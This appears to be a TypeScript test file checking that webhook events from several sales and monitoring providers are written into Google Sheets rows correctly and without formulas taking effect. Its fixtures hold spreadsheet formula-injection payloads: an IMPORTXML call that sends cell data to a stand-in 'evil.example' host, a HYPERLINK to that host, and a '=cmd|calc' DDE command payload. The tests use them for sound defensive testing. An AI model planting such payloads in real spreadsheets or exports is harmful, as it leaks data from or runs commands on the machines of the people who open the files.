import { siggnal } from '../../n8n/cases/siggnal.ts';
import { signalArk } from '../../n8n/cases/signal-ark.ts';
import { spreadsheetOf } from '../fixture.ts';
import { PublishedRecipe } from '../published-recipe.ts';
import { expectSheet, type SheetRow } from '../sheet.ts';
import { RECEIVED_AT, type TestCase } from './test-case.ts';

/** A signal whose every text begins like a formula. */
const HOSTILE_SIGNAL = {
  signal_id: 'sig_1001',
  project_id: '=proj',
  company: {
    name: '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    inn: '0077123456',
    industry: '@retail',
    website: 'https://romashka.example/about',
  },
  event: {
    type: '-tender',
    description: '=HYPERLINK("https://evil.example","A tender was published.")',
    detected_at: '2026-04-25T16:30:00+02:00',
  },
  priority: 'high',
  relevance_explanation: '+1+1',
  recommended_action: '=1+1',
  contacts: [
    { name: '=A1', role: 'CFO', email: 'anna@romashka.example', phone: '+7 495 555-01-00' },
    { name: 'Pavel', role: null, email: 'pavel@romashka.example', phone: null },
  ],
};

const HOSTILE_ROW: SheetRow = {
  // `printf siggnal:sig_1001 | sha256sum`
  event_id: 'evt_7064c36ad40d672198cca94f',
  provider: 'siggnal',
  provider_name: 'Siggnal',
  event_type: 'signal',
  event_type_label: 'Signal',
  occurred_at: '2026-04-25T14:30:00.000Z',
  received_at: RECEIVED_AT,
  title: '=HYPERLINK("https://evil.example","A tender was published.")',
  summary: '+1+1',
  priority: 'high',
  recommended_action: '=1+1',
  project_id: '=proj',
  company_name: '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  company_tax_id: '0077123456',
  company_domain: 'romashka.example',
  company_industry: '@retail',
  contact_name: '=A1',
  contact_first_name: '',
  contact_last_name: '',
  contact_role: 'CFO',
  contact_email: 'anna@romashka.example',
  contact_phone: '+7 495 555-01-00',
  subject_type: 'signal',
  subject_id: 'sig_1001',
  signal_id: 'sig_1001',
  signal_type: '-tender',
  signal_description: '=HYPERLINK("https://evil.example","A tender was published.")',
  relevance_explanation: '+1+1',
};

/** A signal of few words. @returns it with its row */
function plainSignal(id: string, eventId: string): readonly [signal: object, row: SheetRow] {
  const signal = {
    signal_id: id,
    event: { description: `Signal ${id}`, detected_at: '2026-04-25T14:30:00.000Z' },
    contacts: [],
  };
  const empty = Object.fromEntries(Object.keys(HOSTILE_ROW).map((key) => [key, '']));
  const row = {
    ...empty,
    event_id: eventId,
    provider: 'siggnal',
    provider_name: 'Siggnal',
    event_type: 'signal',
    event_type_label: 'Signal',
    occurred_at: '2026-04-25T14:30:00.000Z',
    received_at: RECEIVED_AT,
    title: `Signal ${id}`,
    summary: `Signal ${id}`,
    subject_type: 'signal',
    subject_id: id,
    signal_id: id,
    signal_description: `Signal ${id}`,
  };
  return [signal, row];
}

/** The event ids are `printf siggnal:sig_1002 | sha256sum`, and so on. */
const AT_ONCE = [
  plainSignal('sig_1002', 'evt_0ed04131de8370a7d963c8ae'),
  plainSignal('sig_1003', 'evt_9902910f396791351b57c3c2'),
  plainSignal('sig_1004', 'evt_e4fc23f2ed390aca5350c597'),
  plainSignal('sig_1005', 'evt_e7b866936029a262ff24032b'),
];

const PROMOTED = {
  event: 'signal.promoted',
  timestamp: '2026-04-25T14:30:00Z',
  batchId: 'batch_7',
  signal: {
    id: 'sig_2001',
    signal_name: '=SUM(A:A)',
    source: 'funding',
    source_url: 'https://news.example/acme?a=1&b=2',
    detected_at: '2026-04-25T10:00:00Z',
    description: 'Acme announced a Series B.',
    icp_score: 87.5,
    why_now: 'Fresh capital.',
  },
  account: {
    id: 'acc_1',
    name: 'Acme Corp',
    domain: 'acme.example',
    industry: 'Software',
    employee_count: 180,
  },
  plays: [{ id: 'play_1', name: 'Post-funding outreach' }],
};

const PROMOTED_ROW: SheetRow = {
  // `printf signal-ark:signal.promoted:sig_2001:batch:batch_7 | sha256sum`
  event_id: 'evt_6c67e4d3d9a98b0a017a0263',
  provider: 'signal-ark',
  provider_name: 'Signal Ark',
  event_type: 'signal.promoted',
  event_type_label: 'Signal Promoted',
  occurred_at: '2026-04-25T14:30:00.000Z',
  received_at: RECEIVED_AT,
  title: '=SUM(A:A)',
  summary: 'Acme announced a Series B.',
  score: 87.5,
  url: 'https://news.example/acme?a=1&b=2',
  company_name: 'Acme Corp',
  company_domain: 'acme.example',
  company_industry: 'Software',
  contact_name: '',
  contact_first_name: '',
  contact_last_name: '',
  contact_role: '',
  contact_email: '',
  contact_phone: '',
  subject_type: 'signal',
  subject_id: 'sig_2001',
  batch_id: 'batch_7',
  signal_name: '=SUM(A:A)',
  signal_source: 'funding',
  signal_source_url: 'https://news.example/acme?a=1&b=2',
  signal_description: 'Acme announced a Series B.',
  detected_at: '2026-04-25T10:00:00.000Z',
  icp_score: 87.5,
  why_now: 'Fresh capital.',
  account_id: 'acc_1',
  account_employee_count: 180,
  lead_profile_url: '',
};

const ANALYSIS = {
  event: 'analysis.complete',
  deliveryId: 'del_3001',
  analysisId: 'ana_3001',
  tenantId: 'tnt_1',
  projectId: 'proj_p1q2r3',
  projectSlug: 'checkout-api',
  createdAt: '2026-04-25T14:30:00.000Z',
  summary: '=cmd|calc',
  severity: 'critical',
  confidence: 0.87,
  rootCause: {
    description: 'A slow query holds connections.',
    service: 'checkout-api',
    errorType: 'PoolExhausted',
    category: 'database',
  },
  affectedServices: [{ serviceName: 'checkout-api', role: 'origin', errorCount: 142 }],
  suggestedActions: [{ type: 'fix', action: 'Add an index.', priority: 1 }],
  url: 'https://dashboard.sigsentry.example/ana_3001',
};

const ANALYSIS_ROW: SheetRow = {
  // `printf sigsentry:delivery:del_3001 | sha256sum`
  event_id: 'evt_c10e91ef6463ab4b6a3d8965',
  provider: 'sigsentry',
  provider_name: 'SigSentry',
  event_type: 'analysis.complete',
  event_type_label: 'Analysis Complete',
  occurred_at: '2026-04-25T14:30:00.000Z',
  received_at: RECEIVED_AT,
  title: '=cmd|calc',
  summary: 'A slow query holds connections.',
  priority: 'critical',
  score: 0.87,
  url: 'https://dashboard.sigsentry.example/ana_3001',
  recommended_action: 'Add an index.',
  project_id: 'proj_p1q2r3',
  subject_type: 'analysis',
  subject_id: 'ana_3001',
  delivery_id: 'del_3001',
  analysis_id: 'ana_3001',
  tenant_id: 'tnt_1',
  project_slug: 'checkout-api',
  severity: 'critical',
  confidence: 0.87,
  root_cause_description: 'A slow query holds connections.',
  root_cause_service: 'checkout-api',
  root_cause_error_type: 'PoolExhausted',
  root_cause_category: 'database',
  rule_id: '',
  rule_name: '',
};

/** Google refuses a cell of more than 50,000 characters; one of two halves is at the cut. */
const LONG_ANALYSIS = {
  ...ANALYSIS,
  deliveryId: 'del_3002',
  rootCause: {
    ...ANALYSIS.rootCause,
    description: `${'$&'.repeat(24_999)}😀${'y'.repeat(10_000)}`,
  },
};

const LONG_ROW: SheetRow = {
  ...ANALYSIS_ROW,
  // `printf sigsentry:delivery:del_3002 | sha256sum`
  event_id: 'evt_fe4b425e85ca4dc74f22b02a',
  summary: `${'$&'.repeat(24_999)}…`,
  delivery_id: 'del_3002',
  root_cause_description: `${'$&'.repeat(24_999)}…`,
};

const RATED = {
  entity_type: 'conversation',
  org_id: '55778119',
  event: 'conversation.rated',
  entity_id: '40526000001808099',
  app_id: 40526000000002043n,
  event_time: '1777127400000',
  entity: {
    id: '40526000001808099',
    reference_id: '12',
    status: 'Ended',
    question: '=1+1',
    rating: 4,
    feedback: '+good',
    opened_time: '1777126680000',
    attended_time: '1777126740000',
    end_time: '1777127400000',
    department_id: '301050000000040001',
    owner: {
      type: 'operator',
      id: '40526000000002001',
      name: 'Patricia',
      email_id: 'pat@zylker.example',
    },
    visitor: {
      id: '30000000090034',
      type: 'contact',
      name: 'Tricia',
      email_id: 'tricia@zylker.example',
      phone: '0904327346',
    },
  },
};

const RATED_ROW: SheetRow = {
  // `printf salesiq:conversation.rated:40526000001808099:1777127400000 | sha256sum`
  event_id: 'evt_bbc57408e91b4780c3c776b5',
  provider: 'salesiq',
  provider_name: 'Zoho SalesIQ',
  event_type: 'conversation.rated',
  event_type_label: 'Conversation Rated',
  occurred_at: '2026-04-25T14:30:00.000Z',
  received_at: RECEIVED_AT,
  title: '=1+1',
  summary: '+good',
  score: 4,
  contact_name: 'Tricia',
  contact_first_name: '',
  contact_last_name: '',
  contact_email: 'tricia@zylker.example',
  contact_phone: '0904327346',
  subject_type: 'conversation',
  subject_id: '40526000001808099',
  org_id: '55778119',
  // Above 2^53: a number would have lost its last digit.
  app_id: '40526000000002043',
  reference_id: '12',
  status: 'Ended',
  question: '=1+1',
  message: '',
  message_id: '',
  message_sender: '',
  rating: 4,
  feedback: '+good',
  opened_time: '2026-04-25T14:18:00.000Z',
  attended_time: '2026-04-25T14:19:00.000Z',
  end_time: '2026-04-25T14:30:00.000Z',
  missed_time: '',
  department_id: '301050000000040001',
  owner_id: '40526000000002001',
  owner_name: 'Patricia',
  owner_email: 'pat@zylker.example',
  owner_type: 'operator',
  visitor_id: '30000000090034',
  visitor_type: 'contact',
  modifier_name: '',
  modifier_email: '',
  name: '',
  display_name: '',
  first_name: '',
  last_name: '',
  email: '',
  role: '',
  is_enabled: '',
  is_system_generated: '',
  color: '',
  created_time: '',
  modified_time: '',
  tag_action: '',
};

/** The logs of single providers: every cell, no formula, no second row. */
export function sheetsCases(testCase: TestCase): void {
  testCase('Siggnal: a row, a retry none', async (fixture) => {
    const slug = 'siggnal-google-sheets';
    const all = Object.keys(HOSTILE_ROW);
    fixture.google.make({ id: spreadsheetOf(slug), title: 'Signals', header: all });
    const published = await PublishedRecipe.publish(fixture, slug, siggnal.registerByHand);
    await published.takeTwice('signal', HOSTILE_SIGNAL);
    expectSheet(fixture, slug, [HOSTILE_ROW]);
    await published.takeAtOnce(
      'signal',
      AT_ONCE.map(([signal]) => signal as typeof HOSTILE_SIGNAL),
    );
    const [header, first, ...others] = fixture.google.rows(spreadsheetOf(slug));
    // They come in any order, but none is written over another.
    expect(others).toHaveLength(4);
    expect(others.map(([id]) => id).sort()).toEqual(AT_ONCE.map(([, row]) => row.event_id).sort());
    expect([header, first?.[0]]).toEqual([all, HOSTILE_ROW.event_id]);
  });

  testCase('Signal Ark: below the header that the user has pasted', async (fixture) => {
    const slug = 'signal-ark-google-sheets';
    const header = Object.keys(PROMOTED_ROW);
    fixture.google.make({ id: spreadsheetOf(slug), title: 'Signals', header });
    const published = await PublishedRecipe.publish(fixture, slug, signalArk.registerByHand);
    await published.takeTwice('signal.promoted', PROMOTED);
    expectSheet(fixture, slug, [PROMOTED_ROW]);
  });

  testCase('SigSentry: what is too long for a cell is cut', async (fixture) => {
    const slug = 'sigsentry-google-sheets';
    const header = Object.keys(ANALYSIS_ROW);
    fixture.google.make({ id: spreadsheetOf(slug), title: 'Signals', header });
    const published = await PublishedRecipe.publish(fixture, slug);
    await published.takeTwice('analysis.complete', ANALYSIS);
    await published.take('analysis.complete', LONG_ANALYSIS);
    expectSheet(fixture, slug, [ANALYSIS_ROW, LONG_ROW]);
  });

  testCase('SalesIQ', async (fixture) => {
    const slug = 'salesiq-google-sheets';
    const header = Object.keys(RATED_ROW);
    fixture.google.make({ id: spreadsheetOf(slug), title: 'Signals', header });
    const published = await PublishedRecipe.publish(fixture, slug);
    await published.takeTwice('conversation.rated', RATED);
    expectSheet(fixture, slug, [RATED_ROW]);
  });
}
